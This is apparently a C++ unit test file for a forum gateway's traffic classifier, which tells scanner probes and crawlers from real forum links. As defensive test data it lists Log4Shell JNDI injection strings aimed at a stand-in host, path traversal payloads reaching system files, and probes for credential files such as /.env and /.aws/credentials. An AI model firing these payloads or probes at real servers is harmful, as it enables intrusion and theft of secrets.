// Telling probes and crawlers from people following links, both ways: every documented probe
// shape and scanner agent is a probe; every URL a real forum has (Discourse's routes, and every
// link of a generated 300-topic rehearsal forum: topics, posts, categories, users, tags,
// uploads and the links inside its posts) is not, whoever asks for it; crawlers by their agents.

#include "report/traffic.hpp"

#include "rehearsal/generator.hpp"

#include <gtest/gtest.h>

#include <set>

using namespace forumgate::report;

namespace {

std::vector<std::string> const OLD_HOSTS = {"forum.cooperationbirmingham.org.uk",
                                            "www.forum.cooperationbirmingham.org.uk"};

std::string_view const FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0";
std::string_view const GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

std::string_view kind_of(std::string_view method, std::string_view target, std::string_view agent = FIREFOX)
{
    traffic_classifier const classifier{OLD_HOSTS};
    return to_string(classifier.classify(method, target, agent).probe);
}

/// Every link a generated rehearsal forum has, as paths on the old host.
std::set<std::string> forum_urls()
{
    using namespace forumgate::rehearsal;
    generator_options options;
    options.topic_count = 300;
    auto const forum = generate_forum(options);
    std::set<std::string> out;
    for (auto const &[id, t] : forum.topics()) {
        out.insert("/t/" + t.slug + "/" + std::to_string(id));
        out.insert("/t/" + t.slug + "/" + std::to_string(id) + "?page=2");
        out.insert("/t/" + t.slug + "/" + std::to_string(id) + ".rss");
        out.insert("/t/" + std::to_string(id) + "/last");
    }
    for (auto const &[id, p] : forum.posts()) {
        auto const &t = forum.topics().at(p.topic_id);
        out.insert("/t/" + t.slug + "/" + std::to_string(p.topic_id) + "/" + std::to_string(p.post_number));
        out.insert("/p/" + std::to_string(id));
        // The links inside the post: relative, or absolute on the old host.
        std::string_view cooked = p.cooked;
        for (auto at = cooked.find("href=\""); at != std::string_view::npos; at = cooked.find("href=\"", at + 1)) {
            auto const start = at + 6;
            std::string href{cooked.substr(start, cooked.find('"', start) - start)};
            for (auto const &host : OLD_HOSTS) {
                for (auto const *scheme : {"http://", "https://"}) {
                    if (href.starts_with(scheme + host)) {
                        href = href.substr(std::string{scheme}.size() + host.size());
                    }
                }
            }
            if (href.starts_with('/')) {
                out.insert(href);
            }
        }
    }
    for (auto const &[id, c] : forum.categories()) {
        std::string path = c.slug.empty() ? std::to_string(id) + "-category" : c.slug;
        if (c.parent_id) {
            path = forum.categories().at(*c.parent_id).slug + "/" + path;
        }
        out.insert("/c/" + path + "/" + std::to_string(id));
        out.insert("/c/" + path + "/" + std::to_string(id) + "/l/top");
    }
    for (auto const &[id, u] : forum.users()) {
        out.insert("/u/" + u.username);
        out.insert("/u/" + u.username + "/activity");
        out.insert("/user_avatar/forum.cooperationbirmingham.org.uk/" + u.username + "/120/5.png");
    }
    for (auto const &[id, tag] : forum.tags()) {
        out.insert("/tag/" + tag.name);
        out.insert("/tags/" + tag.name);
    }
    for (auto const &[id, upload] : forum.uploads()) {
        out.insert(upload.url());
        out.insert(upload.short_path());
    }
    return out;
}

} // namespace

TEST(traffic, takes_every_documented_probe_shape_for_a_probe)
{
    // Paths scanners try: file names anywhere, first segments, dot-files, any case, encoded.
    for (std::string_view const target : {"/wp-login.php",
                                          "/blog/wp-login.php",
                                          "/WP-LOGIN.PHP?redirect_to=x",
                                          "/xmlrpc.php",
                                          "/wordpress/xmlrpc.php",
                                          "/wp-admin/setup-config.php",
                                          "/wp-includes/wlwmanifest.xml",
                                          "/blog/wp-includes/wlwmanifest.xml",
                                          "/wp-content/plugins/revslider/temp/update_extract/a.php",
                                          "/wp-content/themes/x/style.css",
                                          "/wp-json/wp/v2/users",
                                          "/wp-config.php.bak",
                                          "/wordpress/",
                                          "/.env",
                                          "/api/.env",
                                          "/.git/config",
                                          "/.aws/credentials",
                                          "/.DS_Store",
                                          "/%2Eenv",
                                          "/phpMyAdmin/",
                                          "//phpMyAdmin/index.php",
                                          "/phpmyadmin4.8.1/",
                                          "/pma/",
                                          "/myadmin/",
                                          "/mysqladmin/",
                                          "/cgi-bin/luci",
                                          "/CGI-BIN/test.cgi",
                                          "/phpinfo.php",
                                          "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                                          "/boaform/admin/formLogin",
                                          "/HNAP1/",
                                          "/GponForm/diag_Form?images/",
                                          "/actuator/health",
                                          "/_ignition/execute-solution",
                                          "/autodiscover/autodiscover.xml",
                                          "/owa/auth/logon.aspx",
                                          "/.vscode/sftp.json",
                                          "/sftp-config.json"}) {
        EXPECT_EQ(kind_of("GET", target), "scanner_path") << target;
    }
    // Injections and paths climbing out of the site.
    for (std::string_view const target :
         {"/${jndi:ldap://x.example/a}", "/?x=${jndi:ldap://x.example/a}", "/%24%7Bjndi:ldap://x.example/a%7D",
          "/t/x/1?q=${${lower:j}ndi:x}", "/../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
          "/index.php?file=../../../etc/passwd", "/static/..%5c..%5cwindows/win.ini", "/a/b/.."}) {
        EXPECT_EQ(kind_of("GET", target), "exploit") << target;
    }
    EXPECT_EQ(kind_of("GET", "/t/x/1", "${jndi:ldap://x.example/a}"), "exploit");
    // A proxy wanted: CONNECT, or another site asked for in absolute form.
    EXPECT_EQ(kind_of("CONNECT", "www.google.com:443"), "proxy");
    EXPECT_EQ(kind_of("GET", "http://www.baidu.com/"), "proxy");
    EXPECT_EQ(kind_of("GET", "https://example.com:8443/t/x/1"), "proxy");
    EXPECT_EQ(kind_of("GET", "http://forum.cooperationbirmingham.org.uk/t/agm/774"), "none"); // an old host
    EXPECT_EQ(kind_of("GET", "http://WWW.forum.cooperationbirmingham.org.uk:80/latest"), "none");
    EXPECT_EQ(kind_of("GET", "http://forum.cooperationbirmingham.org.uk/.env"), "scanner_path");
    // Known scanners' agents, whatever they ask for.
    for (std::string_view const agent :
         {"Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei - Open-source project",
          "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
          "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
          "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6", "Mozilla/5.0 (Acunetix)",
          "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "l9explore/1.2.2",
          "Expanse, a Palo Alto Networks company, searches across the global IPv4 space"}) {
        EXPECT_EQ(kind_of("GET", "/t/agm/774", agent), "scanner_agent") << agent;
    }
}

TEST(traffic, never_takes_a_forum_url_for_a_probe)
{
    // Discourse's own routes, and old links of earlier forum software a rule may send on.
    std::vector<std::string> urls = {"/",
                                     "/latest",
                                     "/top?period=yearly",
                                     "/categories",
                                     "/admin",
                                     "/admin/users/list/active",
                                     "/login",
                                     "/signup",
                                     "/search?q=wp-login.php",
                                     "/search?q=.env%20file",
                                     "/about",
                                     "/faq",
                                     "/privacy",
                                     "/tos",
                                     "/badges",
                                     "/g/board",
                                     "/my/messages",
                                     "/review",
                                     "/new",
                                     "/unread",
                                     "/posts.rss",
                                     "/latest.rss",
                                     "/sitemap.xml",
                                     "/sitemap_1.xml",
                                     "/robots.txt",
                                     "/favicon.ico",
                                     "/manifest.webmanifest",
                                     "/opensearch.xml",
                                     "/.well-known/assetlinks.json",
                                     "/.well-known/acme-challenge/abc_DEF-123",
                                     "/t/wp-admin/123",
                                     "/t/cgi-bin/124",
                                     "/t/how-to-set-up-env-files/125",
                                     "/u/pma",
                                     "/tag/phpmyadmin",
                                     "/c/owa/9",
                                     "/wp-content/uploads/2015/03/photo.jpg",
                                     "/viewtopic.php?t=774",
                                     "/viewtopic.php?f=2&t=774&start=20",
                                     "/showthread.php?tid=774",
                                     "/forum/index.php?topic=774.0",
                                     "/index.php?/topic/774-agm-minutes/",
                                     "/thread.jspa?threadID=774",
                                     "/topic.asp?TOPIC_ID=774",
                                     "/YaBB.cgi?board=general;action=display;num=774",
                                     "/forums/topic/agm-minutes/",
                                     "/t/caf%C3%A9-co-op/776",
                                     "/t/agm/774/3?u=alice",
                                     "/t/x/1?page=2&utm_source=newsletter"};
    auto const generated = forum_urls();
    ASSERT_GT(generated.size(), 3000U);
    urls.insert(urls.end(), generated.begin(), generated.end());
    traffic_classifier const classifier{OLD_HOSTS};
    for (auto const &url : urls) {
        for (std::string_view const agent : {FIREFOX, GOOGLEBOT, std::string_view{}}) {
            auto const who = classifier.classify("GET", url, agent);
            EXPECT_EQ(to_string(who.probe), "none") << url << " by " << agent;
        }
        EXPECT_EQ(to_string(probe_of_target(url)), "none") << url;
        EXPECT_EQ(to_string(classifier.classify("GET", "https://" + OLD_HOSTS[0] + url, FIREFOX).probe), "none") << url;
    }
}

TEST(traffic, tells_search_engine_crawlers_by_their_agents)
{
    std::vector<std::pair<std::string_view, std::string_view>> const agents = {
        {GOOGLEBOT, "Googlebot"},
        {"Googlebot-Image/1.0", "Googlebot"},
        {"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
         "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
         "Bingbot"},
        {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
         "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
         "Applebot"},
        {"DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "DuckDuckBot"},
        {"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "YandexBot"},
        {"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "Baiduspider"},
        {"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)", "Yahoo! Slurp"},
        {"Mozilla/5.0 (compatible; SeznamBot/4.0; +https://o-seznam.cz/napoveda/vyhledavani/en/seznambot-crawler/)",
         "SeznamBot"},
        {"Mozilla/5.0 (compatible; Qwantify/2.4w; +https://www.qwant.com/)/2.4w", "Qwantbot"},
        {"Mozilla/5.0 (compatible;PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", "PetalBot"},
        {"Mozilla/5.0 (compatible; MojeekBot/0.11; +https://www.mojeek.com/bot.html)", "MojeekBot"},
        {FIREFOX, ""},
        {"curl/8.5.0", ""},
        {"", ""},
    };
    traffic_classifier const classifier{OLD_HOSTS};
    for (auto const &[agent, bot] : agents) {
        EXPECT_EQ(name(crawler_of(agent)), bot) << agent;
        auto const who = classifier.classify("GET", "/t/agm/774", agent);
        EXPECT_EQ(name(who.bot), bot) << agent;
        EXPECT_EQ(who.probe, probe_kind::none) << agent;
    }
    // A crawler asking for a scanner's path (a spammed link) is a probe, not a crawl.
    auto const spam = classifier.classify("GET", "/wp-login.php", GOOGLEBOT);
    EXPECT_EQ(spam.probe, probe_kind::scanner_path);
    EXPECT_EQ(spam.bot, crawler::none);
}
